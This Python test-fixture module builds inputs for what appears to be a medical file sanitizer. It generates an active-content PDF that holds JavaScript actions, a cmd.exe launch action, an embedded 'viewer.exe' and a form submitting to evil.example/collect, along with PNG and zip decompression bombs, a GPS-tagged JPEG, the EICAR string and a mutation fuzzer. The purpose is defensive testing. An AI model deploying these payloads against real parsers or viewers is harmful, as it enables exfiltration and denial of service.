"""Test inputs built in code: small, reproducible, and nothing binary committed."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from io import BytesIO
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms, ImageDraw, ImageFilter
from pydicom.data import get_testdata_file

# Built from two halves so this source file isn't itself flagged by a virus scanner.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

GPS = {1: "N", 2: (40.0, 26.0, 46.0), 3: "W", 4: (79.0, 58.0, 56.0)}
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description exif:GPSLatitude="40,26.77N"/></x:xmpmeta>'


def page(size: tuple[int, int] = (800, 600), blur: float = 0) -> Image.Image:
    """A sharp synthetic lab-report page; blurred with a Gaussian of `blur` px if asked."""
    img = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(img)
    for y in range(40, size[1] - 40, 24):
        draw.text((30, y), "Hemoglobin 13.2 g/dL  Leukocytes 6.1 x10^9/L  Platelets 250", fill="black")
    return img.filter(ImageFilter.GaussianBlur(blur)) if blur else img


def encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    buf = BytesIO()
    img.save(buf, format=fmt, **params)
    return buf.getvalue()


def phone_jpeg() -> bytes:
    """640x480 as stored by a phone held upright: orientation 6, GPS, XMP, ICC and a comment.
    Red marks the stored top-left corner, which shows at the top right once rotated."""
    img = page((640, 480))
    ImageDraw.Draw(img).rectangle([0, 0, 59, 59], fill=(255, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90 CW to display
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = GPS
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(img, "JPEG", exif=exif.tobytes(), xmp=XMP, icc_profile=profile, comment=b"Jane Patient")


def bomb_png(side: int = 30_000) -> bytes:
    """A valid side x side 1-bit PNG of zeros, a few hundred KB: header chunks written by hand."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = bytes(1 + (side + 7) // 8)  # filter byte + packed bits
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row) for _ in range(side)) + comp.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def dicom_bytes(name: str = "CT_small.dcm") -> bytes:
    path = get_testdata_file(name)
    assert path, name
    return Path(str(path)).read_bytes()


def dicom_folder() -> Path:
    """pydicom's sample CD: a DICOMDIR and the images it indexes, in nested folders."""
    path = get_testdata_file("DICOMDIR")
    assert path
    return Path(str(path)).parent


def zip_of(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return buf.getvalue()


def zip_of_zeros(size: int) -> bytes:
    """One member of `size` zero bytes, compressed in 1 MB steps so the test never holds it."""
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("image.dcm", "w", force_zip64=True) as f:
        block = bytes(1024 * 1024)
        for _ in range(size // len(block)):
            f.write(block)
    return buf.getvalue()


def active_pdf(*, object_streams: bool = False) -> bytes:
    """One page carrying every kind of active content we remove, plus a URI link we keep."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0].obj

    def js(code: str) -> Dictionary:
        return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))

    embedded = pdf.make_stream(b"MZ\x90\x00 not really a program", Type=Name.EmbeddedFile)
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("viewer.exe"), EF=Dictionary(F=embedded)))
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([10, 10, 100, 30]),
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
            AA=Dictionary(K=js("app.alert('keystroke')")),
        )
    )
    page.Annots = pdf.make_indirect(
        Array(
            [
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 0, 10, 10]),
                    A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
                ),
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 20, 10, 30]),
                    A=Dictionary(S=Name.URI, URI=String("https://example.org/")),
                ),
                Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 40, 10, 50]), FS=filespec),
                widget,
            ]
        )
    )
    page.AA = Dictionary(O=js("app.alert('page open')"))
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=xfa)
    pdf.Root.OpenAction = js("app.alert('open')")
    pdf.Root.AA = Dictionary(WC=js("app.alert('close')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), js("app.alert('named')")])),
        EmbeddedFiles=Dictionary(Names=Array([String("viewer.exe"), filespec])),
    )
    outline = pdf.make_indirect(Dictionary(Title=String("Results"), A=js("app.alert('bookmark')")))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1))
    pdf.Root.Outlines = outlines
    outline.Parent = outlines
    buf = BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(buf, object_stream_mode=mode, compress_streams=False)
    return buf.getvalue()


def plain_pdf(**save: Any) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    buf = BytesIO()
    pdf.save(buf, **save)
    return buf.getvalue()


def mutations(seed_data: bytes, count: int, *, seed: int, keep: int, end: int | None = None) -> list[bytes]:
    """`count` variants of `seed_data` with 1-8 random byte flips, insertions or deletions between
    `keep` (the magic before it is left alone, so each variant still reaches its parser) and `end`."""
    rng = random.Random(seed)
    variants = []
    for _ in range(count):
        data = bytearray(seed_data)
        for _ in range(rng.randint(1, 8)):
            pos = rng.randrange(keep, min(end or len(data), len(data)))
            op = rng.choice(("flip", "insert", "delete"))
            if op == "flip":
                data[pos] ^= 1 << rng.randrange(8)
            elif op == "insert":
                data[pos:pos] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
            else:
                del data[pos : pos + rng.randint(1, 16)]
        variants.append(bytes(data))
    return variants


def fix_png_crcs(data: bytes) -> bytes:
    """Recompute each chunk's CRC, so mutations reach the decoder instead of the CRC check."""
    out, pos = bytearray(data[:8]), 8
    while pos + 12 <= len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        body = data[pos + 4 : pos + 8 + length]
        if len(body) != 4 + length:
            break
        out += data[pos : pos + 4] + body + struct.pack(">I", zlib.crc32(body))
        pos += 12 + length
    return bytes(out + data[pos:])
